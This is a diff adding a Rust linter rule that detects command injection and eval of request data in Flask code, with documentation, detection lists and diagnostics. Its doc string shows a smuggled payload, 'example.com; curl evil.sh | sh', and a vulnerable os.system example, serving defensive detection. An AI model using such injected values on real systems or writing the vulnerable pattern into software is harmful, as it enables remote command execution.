@@ -1,0 +1,124 @@
+//! FH305 `command-injection`: shell commands built from non-literal values, and
+//! `eval`/`exec` of request data.
+
+use ruff_python_ast::{self as ast, Expr};
+use ruff_text_size::Ranged;
+
+use crate::analysis::config_values::is_truthy_literal;
+use crate::analysis::diagnostic::Diagnostic;
+use crate::analysis::registry::Rule;
+use crate::analysis::request_data::{Node, ScopeFlow};
+
+/// The rule's documentation, printed by `flask-harden rule FH305`.
+pub const DOC: &str = r#"## What it does
+Finds commands run through a shell with a command that is not a constant:
+`os.system(...)`, `os.popen(...)`, `subprocess.getoutput(...)` and
+`subprocess.run/call/check_call/check_output/Popen(..., shell=True)`, and code
+evaluation of request data: `eval(...)` and `exec(...)`. An argument list
+without `shell=True` (`subprocess.run(["git", "--version"])`) and a constant
+command are fine.
+
+## Why is this bad?
+The shell interprets `;`, `&&`, `|`, `$(...)` and backticks: a value such as
+`example.com; curl evil.sh | sh` given to `os.system("ping " + host)` runs the
+attacker's commands with the application's privileges. `eval` and `exec` run
+arbitrary Python directly; no sandboxing of their globals is effective.
+
+## Example
+```python
+host = request.form["host"]
+os.system("ping -c 1 " + host)
+```
+
+Use instead:
+```python
+import subprocess
+
+host = request.form["host"]
+subprocess.run(["ping", "-c", "1", "--", host], check=False, timeout=5)
+```
+Validate the value against a strict pattern too. Replace `eval` of data with
+`ast.literal_eval` or a real parser.
+
+## Fix safety
+There is no automatic fix: splitting a shell command line into an argument list
+changes quoting, globbing and pipes. The message gives the replacement.
+
+## References
+- CWE-78: Improper Neutralization of Special Elements used in an OS Command, https://cwe.mitre.org/data/definitions/78.html
+- CWE-95: Eval Injection, https://cwe.mitre.org/data/definitions/95.html
+- OWASP Top 10 A03:2021 Injection, https://owasp.org/Top10/A03_2021-Injection/
+- OWASP OS Command Injection Defense Cheat Sheet, https://cheatsheetseries.owasp.org/cheatsheets/OS_Command_Injection_Defense_Cheat_Sheet.html
+"#;
+
+const ALWAYS_SHELL: &[&str] = &[
+    "os.system",
+    "os.popen",
+    "subprocess.getoutput",
+    "subprocess.getstatusoutput",
+    "commands.getoutput",
+    "commands.getstatusoutput",
+];
+const SUBPROCESS: &[&str] = &[
+    "subprocess.run",
+    "subprocess.call",
+    "subprocess.check_call",
+    "subprocess.check_output",
+    "subprocess.Popen",
+];
+const EVAL: &[&str] = &["builtins.eval", "builtins.exec"];
+
+/// Reports shell commands that are not constants and `eval`/`exec` of request data.
+pub(crate) fn check(flow: &ScopeFlow, node: &Node, out: &mut Vec<Diagnostic>) {
+    let Expr::Call(call) = node.expr else { return };
+    let Some(qualified) = flow.semantic().resolve_qualified_name(&call.func) else {
+        return;
+    };
+    let name = qualified.dotted();
+    let message = if qualified.is_any(EVAL) {
+        if !first(call, "source").is_some_and(|arg| flow.is_request_data(arg)) {
+            return;
+        }
+        format!(
+            "`{}()` runs request data as Python code: anyone can execute code on the server. Parse the data instead (`ast.literal_eval`, `json.loads`, or a real expression parser)",
+            qualified.last()
+        )
+    } else {
+        let shell = if qualified.is_any(ALWAYS_SHELL) {
+            true
+        } else if qualified.is_any(SUBPROCESS) {
+            call.arguments
+                .find_keyword("shell")
+                .is_some_and(|k| is_truthy_literal(&k.value))
+        } else {
+            false
+        };
+        if !shell {
+            return;
+        }
+        let Some(command) = first(call, if name == "os.system" { "command" } else { "args" })
+            .or_else(|| first(call, "cmd"))
+        else {
+            return;
+        };
+        if flow.is_constant(command) {
+            return;
+        }
+        let origin = if flow.is_request_data(command) {
+            "built from request data"
+        } else {
+            "not a constant"
+        };
+        format!(
+            "The shell command given to `{name}()` is {origin}: shell metacharacters in it run arbitrary commands (command injection). Pass an argument list without `shell=True`: `subprocess.run([\"prog\", \"--\", value], check=True)`"
+        )
+    };
+    out.push(Diagnostic::new(Rule::CommandInjection, call.range(), message));
+}
+
+fn first<'a>(call: &'a ast::ExprCall, keyword: &str) -> Option<&'a Expr> {
+    call.arguments
+        .args
+        .first()
+        .or_else(|| call.arguments.find_keyword(keyword).map(|k| &k.value))
+}
